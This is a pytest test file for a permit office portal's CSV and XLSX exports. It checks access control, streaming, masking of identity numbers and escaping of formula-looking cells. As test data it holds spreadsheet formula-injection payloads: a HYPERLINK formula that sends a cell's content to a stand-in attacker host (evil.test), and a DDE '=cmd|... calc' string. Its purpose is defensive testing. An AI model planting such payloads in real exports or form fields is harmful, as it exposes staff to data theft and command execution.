"""The office's downloads: the queue with its filters, the decisions and the permits of a period,
as CSV and XLSX; formula-looking cells escaped; identity numbers masked; staff only; streamed."""

from __future__ import annotations

import csv
import io
from datetime import UTC, date, datetime, timedelta
from itertools import count

import openpyxl
import pytest
from sqlalchemy import event

from portal.applications import services as app_services
from portal.applications.models import ApplicationStatus as S
from portal.auth.models import Role
from portal.backoffice.services import exports
from portal.calendar import clock
from portal.extensions import db
from portal.permits.models import Permit
from portal.tabular import safe_text
from tests.conftest import make_user
from tests.wizard_helpers import make_category

HOSTILE = '=HYPERLINK("http://evil.test/?x="&A1,"Klik")'
_numbers = count(1)


def _application(category, *, status=S.SUBMITTED, applicant=None, due=None, decided=None, submitted=None):
    applicant = applicant or make_user(Role.APPLICANT)
    application = app_services.start_application(applicant, category)
    n = next(_numbers)
    application.status = status
    application.tracking_number = f"SP-2099-{n:06d}"
    application.submitted_at = submitted or datetime(2026, 3, 2, 2, 0, tzinfo=UTC) + timedelta(minutes=n)
    application.due_date = due or clock.office_today() + timedelta(days=14)
    application.decided_at = decided
    db.session.commit()
    return application


def _csv_rows(response) -> list[list[str]]:
    text = response.get_data().decode("utf-8")
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text[1:])))


def _data_rows(rows: list[list[str]], first_header: str) -> list[list[str]]:
    start = next(i for i, row in enumerate(rows) if row and row[0] == first_header)
    return [row for row in rows[start + 1 :] if row]


def _xlsx_rows(response) -> list[list[object]]:
    book = openpyxl.load_workbook(io.BytesIO(response.get_data()), read_only=True)
    return [list(row) for row in book.worksheets[0].iter_rows(values_only=True)]


@pytest.fixture
def category():
    return make_category()


# -- the queue ------------------------------------------------------------------------------------
def test_queue_export_has_every_page_of_the_filtered_queue(client, login_as, category):
    other = make_category("test-lain")
    mine = [_application(category) for _ in range(25)]  # more than one page of the queue (20)
    _application(other)
    _application(category, status=S.APPROVED)  # not waiting: not in the default queue
    login_as(Role.OFFICER)
    response = client.get(f"/office/queue/export.csv?category={category.id}&lang=id")
    assert response.status_code == 200
    assert response.headers["Content-Type"].startswith("text/csv")
    assert "attachment" in response.headers["Content-Disposition"]
    rows = _data_rows(_csv_rows(response), "Nomor Registrasi")
    assert [row[0] for row in rows] == [a.tracking_number for a in mine]
    assert {row[3] for row in rows} == {category.name_id}


def test_queue_xlsx_opens_with_the_same_rows(client, login_as, category):
    apps = [_application(category) for _ in range(3)]
    login_as(Role.OFFICER)
    response = client.get("/office/queue/export.xlsx?lang=id")
    assert response.status_code == 200
    assert response.headers["Content-Type"].startswith("application/vnd.openxmlformats")
    rows = _xlsx_rows(response)
    header_at = next(i for i, row in enumerate(rows) if row and row[0] == "Nomor Registrasi")
    body = [row for row in rows[header_at + 1 :] if row and row[0]]
    assert [row[0] for row in body] == [a.tracking_number for a in apps]
    assert isinstance(body[0][6], datetime)  # the due date is a date cell, not text


def test_identity_numbers_are_masked(client, login_as, category):
    applicant = make_user(Role.APPLICANT, nik="6472014507990042")
    _application(category, applicant=applicant)
    login_as(Role.OFFICER)
    for fmt in ("csv", "xlsx"):
        body = client.get(f"/office/queue/export.{fmt}").get_data()
        text = (
            body.decode("utf-8") if fmt == "csv" else str(_xlsx_rows(client.get("/office/queue/export.xlsx")))
        )
        assert "6472014507990042" not in text
        assert "6472**********42" in text


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_formula_looking_names_are_escaped(client, login_as, category, start):
    name = start + 'HYPERLINK("http://evil.test","x")'
    _application(category, applicant=make_user(Role.APPLICANT, full_name=name))
    login_as(Role.OFFICER)
    rows = _data_rows(_csv_rows(client.get("/office/queue/export.csv?lang=id")), "Nomor Registrasi")
    assert rows[0][1] == "'" + name
    xrows = _xlsx_rows(client.get("/office/queue/export.xlsx?lang=id"))
    assert ["'" + name in row for row in xrows].count(True) == 1


def test_a_formula_in_the_search_filter_is_escaped_where_it_is_echoed(client, login_as, category):
    _application(category)
    login_as(Role.OFFICER)
    rows = _csv_rows(client.get("/office/queue/export.csv", query_string={"q": HOSTILE, "lang": "id"}))
    echoed = [row for row in rows if row and row[0] == "Cari"]
    assert echoed == [["Cari", "'" + HOSTILE]]
    assert not any(cell.startswith("=") for row in rows for cell in row)
    xrows = _xlsx_rows(client.get("/office/queue/export.xlsx", query_string={"q": HOSTILE, "lang": "id"}))
    assert ["Cari", "'" + HOSTILE] in [list(row[:2]) for row in xrows]
    book = openpyxl.load_workbook(
        io.BytesIO(client.get("/office/queue/export.xlsx", query_string={"q": HOSTILE}).get_data())
    )
    assert all(cell.data_type != "f" for row in book.worksheets[0].iter_rows() for cell in row)


def test_safe_text_leaves_plain_values():
    assert safe_text("Siti") == "Siti"
    assert safe_text("") == ""
    assert safe_text("-5") == "'-5"


def test_a_bad_queue_filter_is_a_400(client, login_as):
    login_as(Role.OFFICER)
    assert client.get("/office/queue/export.csv?status=nope").status_code == 400
    assert client.get("/office/queue/export.pdf").status_code == 404


@pytest.mark.parametrize("role", [Role.APPLICANT, Role.HELPDESK])
@pytest.mark.parametrize(
    "url",
    [
        "/office/queue/export.csv",
        "/office/queue/export.xlsx",
        "/office/exports",
        "/office/exports/decisions.csv",
        "/office/exports/permits.xlsx",
    ],
)
def test_only_staff_may_download(client, login_as, category, role, url):
    _application(category)
    login_as(role)
    assert client.get(url).status_code == 403


def test_anonymous_visitors_are_sent_to_log_in(client):
    response = client.get("/office/queue/export.csv")
    assert response.status_code == 302 and "/login" in response.headers["Location"]


def test_the_queue_export_streams_batch_by_batch(client, login_as, category, monkeypatch):
    """The answer is a generator: its first piece leaves after the first batch is read, before
    the later batches are asked for."""
    for _ in range(12):
        _application(category)
    login_as(Role.OFFICER)
    monkeypatch.setattr(exports, "BATCH", 5)
    monkeypatch.setattr("portal.tabular.CSV_ROWS_PER_PIECE", 5)
    statements: list[str] = []

    def _seen(conn, cursor, statement, *args):
        if "FROM applications" in statement and "LIMIT" in statement.upper():
            statements.append(statement)

    event.listen(db.engine, "before_cursor_execute", _seen)
    try:
        response = client.get("/office/queue/export.csv?lang=id")
        assert response.is_streamed
        pieces = iter(response.response)
        first = next(pieces)
        assert b"Nomor Registrasi" in first
        batches_before = len(statements)
        rest = b"".join(pieces)
    finally:
        event.remove(db.engine, "before_cursor_execute", _seen)
    assert batches_before == 1
    assert len(statements) == 3  # 5 + 5 + 2 rows
    assert (first + rest).decode("utf-8").count("SP-2099-") == 12


# -- decisions and permits ----------------------------------------------------------------------
def _decided(category, when: datetime, status=S.APPROVED, due: date | None = None):
    return _application(category, status=status, decided=when, due=due or when.date() + timedelta(days=3))


def test_decisions_of_a_period(client, login_as, category):
    inside = _decided(category, datetime(2026, 3, 10, 3, 0, tzinfo=UTC))
    late = _decided(
        category, datetime(2026, 3, 20, 3, 0, tzinfo=UTC), status=S.REJECTED, due=date(2026, 3, 18)
    )
    _decided(category, datetime(2026, 4, 2, 3, 0, tzinfo=UTC))  # after the period
    _application(category)  # not decided
    login_as(Role.APPROVER)
    response = client.get("/office/exports/decisions.csv?from=2026-03-01&to=2026-03-31&lang=id")
    assert response.status_code == 200
    rows = _data_rows(_csv_rows(response), "Nomor Registrasi")
    assert [row[0] for row in rows] == [inside.tracking_number, late.tracking_number]
    assert [row[4] for row in rows] == ["Disetujui", "Ditolak"]
    assert [row[8] for row in rows] == ["Ya", "Tidak"]
    xrows = _xlsx_rows(client.get("/office/exports/decisions.xlsx?from=2026-03-01&to=2026-03-31"))
    assert sum(1 for row in xrows if row and row[0] in (inside.tracking_number, late.tracking_number)) == 2


def test_permits_of_a_period_with_their_state(client, login_as, category):
    valid = _decided(category, datetime(2026, 3, 10, 3, 0, tzinfo=UTC))
    gone = _decided(category, datetime(2026, 3, 11, 3, 0, tzinfo=UTC))
    for n, (application, revoked) in enumerate([(valid, None), (gone, datetime(2026, 3, 15, tzinfo=UTC))]):
        db.session.add(
            Permit(
                application_id=application.id,
                number=f"EXP/{n}/2026",
                category_id=category.id,
                holder_name="=cmd|' /C calc'!A0",
                issued_at=application.decided_at,
                valid_until=date(2099, 1, 1),
                verification_token=f"tok-export-{n}",
                pdf_key=f"permits/export-{n}.pdf",
                revoked_at=revoked,
            )
        )
    db.session.commit()
    login_as(Role.OFFICER)
    rows = _data_rows(
        _csv_rows(client.get("/office/exports/permits.csv?from=2026-03-01&to=2026-03-31&lang=id")),
        "Nomor izin",
    )
    assert [(row[0], row[7]) for row in rows] == [("EXP/0/2026", "Berlaku"), ("EXP/1/2026", "Dicabut")]
    assert rows[0][2] == "'=cmd|' /C calc'!A0"


@pytest.mark.parametrize(
    "query",
    ["from=2026-03-31&to=2026-03-01", "from=31-03-2026", "from=2026-02-30", "from=2020-01-01&to=2026-01-01"],
)
def test_a_bad_period_is_refused_with_a_message(client, login_as, query):
    login_as(Role.OFFICER)
    response = client.get(f"/office/exports/decisions.csv?{query}&lang=id")
    assert response.status_code == 400
    assert response.mimetype == "text/html"
    assert 'role="alert"' in response.get_data(as_text=True)


def test_the_queue_page_links_to_its_downloads_with_its_filters(client, login_as, category):
    _application(category)
    login_as(Role.OFFICER)
    html = client.get(f"/office/queue?category={category.id}&lang=id").get_data(as_text=True)
    assert f"/office/queue/export.xlsx?category={category.id}" in html
    assert f"/office/queue/export.csv?category={category.id}" in html
